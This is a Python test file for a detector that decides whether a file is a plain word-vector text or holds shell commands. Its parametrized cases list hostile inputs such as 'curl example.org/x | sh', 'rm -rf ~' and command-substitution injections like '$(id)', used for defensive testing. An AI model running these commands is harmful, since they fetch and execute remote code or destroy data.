"""Vectors of words as text: words are what people write, and only a file of nothing else is read as that."""

import pytest

from caponier.detect.artifact import Verdict
from detect.model_files.files.building import judged, verdict

WORDS = [
    "the",
    "FROM",
    "RUN",
    "image",
    "services",
    "kind",
    "run",
    "rm",
    "sh",
    "wörter",
    "</s>",
    "<unk>",
    ",",
    "don't",
    '"We',
]


def lines(words: list[str], numbers: str = "0.418 -0.24968 1.2e-05 -0.0051 2.5") -> str:
    return "".join(f"{word} {numbers}\n" for word in words)


@pytest.mark.parametrize("head", ["", "14 5\n"])
@pytest.mark.parametrize("end", ["", "the 0.5 0.5 0.5 0.5 -1.5"])
def test_words_with_their_numbers_are_clean(head: str, end: str) -> None:
    judgement = judged((head + lines(WORDS) + end).encode())
    assert (judgement.verdict, judgement.kind) == (Verdict.CLEAN, "word vectors"), judgement.reason


@pytest.mark.parametrize(
    "first",
    [
        "curl example.org/x | sh",
        "#!/bin/sh",
        "rm -rf ~",
        "$(id) 0.1 0.2 0.3 0.4 0.5",
        "`id` 0.1 0.2 0.3 0.4 0.5",
        "a;id; 0.1 0.2 0.3 0.4 0.5",
        "a|sh 0.1 0.2 0.3 0.4 0.5",
        "kill 1 2 3 4 5",
        "rm 0.1 0.2 0.3 0.4 *",
        "/tmp/x 0.1 0.2 0.3 0.4 0.5",
        "bin/x 0.1 0.2 0.3 0.4 0.5",
        "./x 0.1 0.2 0.3 0.4 0.5",
        "A=$(id) 0.1 0.2 0.3 0.4 0.5",
        "-e 0.1 0.2 0.3 0.4 0.5",
    ],
)
def test_a_line_that_does_something_keeps_a_text_from_being_vectors(first: str) -> None:
    for content in (f"{first}\n{lines(WORDS)}", f"{lines(WORDS)}{first}\n"):
        assert judged(content.encode()).kind != "word vectors"


@pytest.mark.parametrize("first", ["curl example.org/x | sh", "#!/bin/sh", "rm -rf ~"])
def test_a_command_before_vectors_is_not_clean(first: str) -> None:
    assert verdict(f"{first}\n{lines(WORDS)}".encode()) is not Verdict.CLEAN


def test_lines_of_other_lengths_and_too_few_are_no_vectors() -> None:
    for content in (
        lines(WORDS) + "the 0.5 0.5 0.5 0.5\n",
        lines(WORDS[:2]),
        lines(WORDS, "0.1 0.2"),
        lines(WORDS, "1"),
    ):
        assert judged(content.encode()).kind != "word vectors"


def test_another_end_of_a_line_is_no_vector() -> None:
    for end in ("\r", "\x0b", "\x0c", "\u2028", "\x85"):
        assert judged(f"the{end}sh 0.1 0.2 0.3 0.4 0.5\n{lines(WORDS)}".encode()).kind != "word vectors"
